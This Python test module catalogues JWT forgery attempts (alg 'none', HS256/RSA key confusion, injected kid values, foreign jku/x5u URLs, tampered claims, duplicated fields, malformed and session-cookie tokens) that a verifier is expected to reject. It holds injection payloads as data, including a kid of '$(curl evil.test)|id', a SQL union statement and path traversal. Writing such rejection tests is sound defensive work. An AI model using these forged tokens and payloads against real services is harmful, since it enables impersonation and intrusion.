"""Every way we know to be somebody one is not, each making a token that must be refused."""

import json
from collections.abc import Callable, Mapping
from typing import Any

from tests.identity.crafting import (
    EDDSA,
    ES256,
    ORIGIN,
    OURS,
    RS256,
    THEIRS,
    confused,
    flipped,
    of_eve,
    raw,
    saying_twice,
    sealed,
    shared,
    token,
)
from tests.identity.signing import KeyPair, encoded, good, seconds_from_now, signed

type Attack = Callable[[], str]
"""Makes the token when the test runs, as it is soon too old."""

SESSION = "Qf3vPZPeVKPnRjSeDaBcXyWz01234567"
HEADER = {"alg": "EdDSA", "kid": EDDSA.key_id}
FAR = "https://evil.test/jwks"

UNSIGNED: Mapping[str, Attack] = {
    f"alg {name!r} {how}": lambda name=name, end=end: (
        f"{raw({'alg': name, 'kid': EDDSA.key_id})}.{end}"
    )
    for name in ("none", "None", "NONE", "nOnE", "", "HS256", "EdDSA", "ES256", "RS256")
    for how, end in {"without a signature": "", "with nonsense for one": "AAAA"}.items()
}
CONFUSED: Mapping[str, Attack] = {
    "HS256 under the PEM of an RSA key": lambda: confused(RS256.pem(), kid=RS256.key_id),
    "HS256 under the PEM without its last line end": lambda: confused(RS256.pem().strip()),
    "HS256 under the PEM of an EdDSA key": lambda: confused(EDDSA.pem(), kid=EDDSA.key_id),
    "HS256 under a JWK": lambda: confused(json.dumps(RS256.jwk()).encode(), kid=RS256.key_id),
    "HS256 under the bytes of a JWK": lambda: confused(EDDSA.jwk()["x"].encode()),
    "HS256 under nothing": lambda: confused(b"", kid="/dev/null"),
    "HS256 under its own kid": lambda: confused(b"kid", kid="kid"),
    "HS384": lambda: signed(OURS, secret=b"s" * 64, algorithm="HS384"),
    "HS512": lambda: signed(OURS, secret=b"s" * 64, algorithm="HS512"),
    "PS256 by a key of RS256": lambda: token(by=KeyPair("PS256", RS256.key_id, RS256.private)),
    "RS512 by a key of RS256": lambda: token(by=KeyPair("RS512", RS256.key_id, RS256.private)),
    "ES256 under the name of another key": lambda: token(by=ES256, kid=RS256.key_id),
    "EdDSA that says it is RS256": lambda: sealed(raw({**HEADER, "alg": "RS256"})),
    "RS256 that says it is EdDSA": lambda: sealed(
        raw({"alg": "EdDSA", "kid": RS256.key_id}), by=RS256
    ),
    "ES256 of zeros": lambda: f"{raw({'alg': 'ES256', 'kid': ES256.key_id})}.{'A' * 86}",
    "an alg that is a list": lambda: sealed(raw({**HEADER, "alg": ["EdDSA"]})),
    "no alg": lambda: sealed(raw({"kid": EDDSA.key_id})),
}
KEY_NAMES: Mapping[str, Attack] = {
    "a path": lambda: token(by=THEIRS, kid="../../../../../../dev/null"),
    "a statement": lambda: token(by=THEIRS, kid="' union select 'secret' --"),
    "a command": lambda: token(by=THEIRS, kid="$(curl evil.test)|id"),
    "an address": lambda: token(by=THEIRS, kid=FAR),
    "NUL": lambda: token(by=THEIRS, kid="key\x00"),
    "very long": lambda: token(by=THEIRS, kid="k" * 5_000),
    "empty": lambda: token(by=THEIRS, kid=""),
    "unknown": lambda: token(by=THEIRS, kid="somebody-else"),
    "the name of a trusted key": lambda: token(by=THEIRS),
    "missing": lambda: sealed(raw({"alg": "EdDSA"})),
    "null": lambda: sealed(raw({**HEADER, "kid": None})),
    "a number": lambda: sealed(raw({**HEADER, "kid": 0})),
    "true": lambda: sealed(raw({**HEADER, "kid": True})),
    "a list": lambda: sealed(raw({**HEADER, "kid": [EDDSA.key_id]})),
    "an object": lambda: sealed(raw({**HEADER, "kid": {"$ne": None}})),
}
BROUGHT: Mapping[str, Attack] = {
    "jwk": lambda: token(by=THEIRS, jwk=THEIRS.jwk()),
    "jwk under another name": lambda: token(by=THEIRS, kid="mine", jwk=THEIRS.jwk(kid="mine")),
    "jku": lambda: token(by=THEIRS, jku=FAR),
    "x5u": lambda: token(by=THEIRS, x5u=FAR),
    "x5c": lambda: token(by=THEIRS, x5c=["MIIB"]),
    "crit": lambda: token(crit=["exp"], exp=1),
    "crit that is empty": lambda: sealed(raw({**HEADER, "crit": []})),
    "crit of b64": lambda: sealed(raw({**HEADER, "crit": ["b64"], "b64": True})),
    "b64": lambda: sealed(raw({**HEADER, "b64": False, "crit": ["b64"]}, b"")),
}
CLAIMS: Mapping[str, Mapping[str, Any]] = {
    "another issuer": {"iss": "https://evil.test"},
    "an issuer that begins like ours": {"iss": f"{ORIGIN}.evil.test"},
    "an issuer with a slash more": {"iss": f"{ORIGIN}/"},
    "no issuer": {"iss": None},
    "another audience": {"aud": "https://other.test"},
    "other audiences": {"aud": ["https://other.test", "https://evil.test"]},
    "an audience that is an object": {"aud": {ORIGIN: True}},
    "no audience": {"aud": None},
    "an empty audience": {"aud": ""},
    "the audience of session cookies": {"aud": "better-auth:session-cache", "sid": "s"},
    "an end in the past": {"exp": seconds_from_now(-120)},
    "no end": {"exp": None},
    "an end that is a text": {"exp": str(seconds_from_now(600))},
    "an end that is true": {"exp": True},
    "an end that is a list": {"exp": [seconds_from_now(600)]},
    "an end without end": {"exp": float("inf")},
    "an end that is no number": {"exp": float("nan")},
    "a beginning in the future": {"nbf": seconds_from_now(600)},
    "a beginning that is a text": {"nbf": "0"},
    "an issue in the future": {"iat": seconds_from_now(600)},
    "no subject": {"sub": None},
    "no subject but a user": {"sub": None, "id": "ada", "userId": "ada", "email": "a@b.test"},
    "an empty subject": {"sub": ""},
    "a subject that is a number": {"sub": 1},
    "a subject that is a list": {"sub": ["ada"]},
    "a subject that is an object": {"sub": {"$ne": None}},
    "a subject with NUL": {"sub": "ada\x00"},
    "a subject with a line break": {"sub": "ada\r\nX: y"},
    "a subject without end": {"sub": "a" * 256},
    "a session for a subject": {"sub": None, "session": {"token": SESSION}, "user": {"id": "a"}},
}
TYPES: tuple[object, ...] = (
    "better-auth.session-cache+jwt",
    "JWE",
    "dpop+jwt",
    "logout+jwt",
    "id_token",
    "",
    1,
    [],
)
TWICE: Mapping[str, Attack] = {
    "alg": lambda: sealed(raw(b'{"alg":"none","alg":"EdDSA","kid":"key-EdDSA"}')),
    "kid": lambda: sealed(raw(b'{"alg":"EdDSA","kid":"x","kid":"key-EdDSA"}')),
    "typ": lambda: sealed(raw(b'{"typ":"JWE","typ":"JWT","alg":"EdDSA","kid":"key-EdDSA"}')),
    "sub": lambda: sealed(raw(HEADER, saying_twice(good(OURS), '"sub": "eve"'))),
    "exp": lambda: sealed(raw(HEADER, saying_twice(good(OURS), '"exp": 9999999999'))),
    "aud": lambda: sealed(raw(HEADER, saying_twice(good(OURS), '"aud": "https://other.test"'))),
    "something inside": lambda: sealed(
        raw(HEADER, saying_twice(good(OURS), '"user": {"id": "ada", "id": "eve"}'))
    ),
}
BENT: Mapping[str, Attack] = {
    "a signature cut short": lambda: token()[:-4],
    "a signature of one byte": lambda: token().rpartition(".")[0] + ".AA",
    "no signature": lambda: token().rpartition(".")[0] + ".",
    "a signature with more behind it": lambda: token() + "AAAA",
    "a signature with another character": lambda: flipped(token()),
    "the signature of ES256 cut short": lambda: token(by=ES256)[:-4],
    "the signature of RS256 cut short": lambda: token(by=RS256)[:-4],
    "the signature of HS256 cut short": lambda: shared()[:-4],
    "HS256 with another character": lambda: flipped(shared()),
    "other claims": lambda: of_eve(token()),
    "other claims under HS256": lambda: of_eve(shared()),
    "two parts": lambda: token().rpartition(".")[0],
    "four parts": lambda: token() + ".AAAA",
    "five parts, as if encrypted": lambda: "eyJhbGciOiJkaXIifQ..AAAA.AAAA.AAAA",
    "a word": lambda: "token",
    "null": lambda: "null",
    "dots": lambda: "..",
    "a header that is no JSON": lambda: sealed(f"{encoded(b'header')}.{encoded(good(OURS))}"),
    "a header that is a list": lambda: sealed(f"{encoded(b'[1]')}.{encoded(good(OURS))}"),
    "a header nested without end": lambda: sealed(f"{encoded(b'[' * 3_000)}.{encoded(b'{}')}"),
    "a payload that is no JSON": lambda: sealed(raw(HEADER, b"payload")),
    "a payload that is a list": lambda: sealed(raw(HEADER, b'["sub"]')),
    "a payload that is no UTF-8": lambda: sealed(raw(HEADER, b'{"sub": "\xff"}')),
    "a payload nested without end": lambda: sealed(raw(HEADER, b"[" * 3_000)),
    "a number of many digits": lambda: sealed(raw(HEADER, b'{"exp": ' + b"9" * 5_000 + b"}")),
    "a number that is none": lambda: token({"level": float("nan")}),
    "too long": lambda: token({"picture": "p" * 8_192}),
}
SESSIONS: Mapping[str, Attack] = {
    "a token": lambda: f"{SESSION}.{'A' * 43}=",
    "a token from a cookie": lambda: f"{SESSION}.{'A' * 42}%2B%3D",
    "a token without its signature": lambda: SESSION,
    "a whole cookie": lambda: f"better-auth.session_token={SESSION}.{'A' * 43}=",
    "a cookie under the secret": lambda: signed({"sub": None, "session": {"token": SESSION}}),
    "a cookie under a key": lambda: token({"sid": "s"}, typ="better-auth.session-cache+jwt"),
}

ATTACKS: Mapping[str, Attack] = {
    **UNSIGNED,
    **CONFUSED,
    **{f"kid that is {name}": attack for name, attack in KEY_NAMES.items()},
    **{f"header brings {name}": attack for name, attack in BROUGHT.items()},
    **{f"{n} under a key": lambda c=c: token(c) for n, c in CLAIMS.items()},
    **{f"{n} under the secret": lambda c=c: shared(c) for n, c in CLAIMS.items()},
    **{f"typ {kind!r}": lambda kind=kind: sealed(raw({**HEADER, "typ": kind})) for kind in TYPES},
    **{f"{name} said twice": attack for name, attack in TWICE.items()},
    **{f"bent: {name}": attack for name, attack in BENT.items()},
    **{f"of a session: {name}": attack for name, attack in SESSIONS.items()},
}
